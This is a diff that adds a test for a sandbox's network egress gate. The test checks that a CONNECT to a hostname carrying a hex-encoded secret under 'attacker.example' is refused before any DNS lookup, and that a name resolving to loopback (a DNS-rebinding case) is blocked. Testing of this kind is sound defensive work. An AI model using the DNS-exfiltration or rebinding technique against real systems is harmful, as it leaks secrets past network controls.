@@ -9,7 +9,9 @@ import { loadShellParser, parseIp } from "@gatehouse/policy";
 import type { Guard } from "@gatehouse/protocol";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FileGuard, resolveSandbox, ShellRunner } from "../src/index.js";
+import { silentLog } from "@gatehouse/log";
 import { EgressGate } from "../src/network/egress-gate.js";
+import { EgressProxy } from "../src/network/egress-proxy.js";
 import { findRelay } from "../src/network/relay-command.js";
 
 await loadShellParser();
@@ -251,6 +253,22 @@ describe("the gate, with names resolved by a stand-in", () => {
     });
   });
 
+  it("a name the rules ask about is looked up only after a yes: a CONNECT carrying data in a name reaches no resolver", async () => {
+    const looked: string[] = [];
+    const resolveTo = (address: string) => (host: string) => (looked.push(host), Promise.resolve([parseIp(address)!]));
+    const asking = guardWith(rule("network", "*", "ask")).context.layers;
+    const name = `${Buffer.from("the project's secret").toString("hex")}.attacker.example`;
+    const proxy = await EgressProxy.open(new EgressGate({ layers: asking, resolve: resolveTo("93.184.216.34") }), silentLog);
+    const reply = await connectThrough(proxy.socketPath, `${name}:443`).finally(() => proxy.close());
+    expect(reply).toMatch(/^HTTP\/1\.1 403[^]*nobody can be asked here/);
+    const refused = new EgressGate({ layers: asking, resolve: resolveTo("93.184.216.34"), ask: () => Promise.resolve({ allow: false, reason: "no" }) });
+    expect(await refused.decide(name, 443)).toEqual({ ok: false, label: `${name}:443`, reason: "no" });
+    expect(looked).toEqual([]);
+    const allowed = new EgressGate({ layers: asking, resolve: resolveTo("127.0.0.1"), ask: () => Promise.resolve({ allow: true }) });
+    expect(await allowed.decide("rebind.attacker.example", 80)).toMatchObject({ ok: false, reason: expect.stringMatching(/it reaches the host's loopback/) });
+    expect(looked).toEqual(["rebind.attacker.example"]);
+  });
+
   it("asks one at a time, once per host and port for a command, and refuses past the limit of waiting connections", async () => {
     const asked: string[] = [];
     let release!: () => void;
@@ -275,3 +293,14 @@ describe("the gate, with names resolved by a stand-in", () => {
     expect(asked).toHaveLength(16);
   });
 });
+
+/** What the proxy answers a CONNECT to `target`, sent on its socket as a sandbox's relay sends it. */
+function connectThrough(socketPath: string, target: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = net.connect(socketPath, () => socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
+    let reply = "";
+    socket.on("data", (d: Buffer) => (reply += d.toString("utf8")));
+    socket.on("close", () => resolve(reply));
+    socket.on("error", reject);
+  });
+}
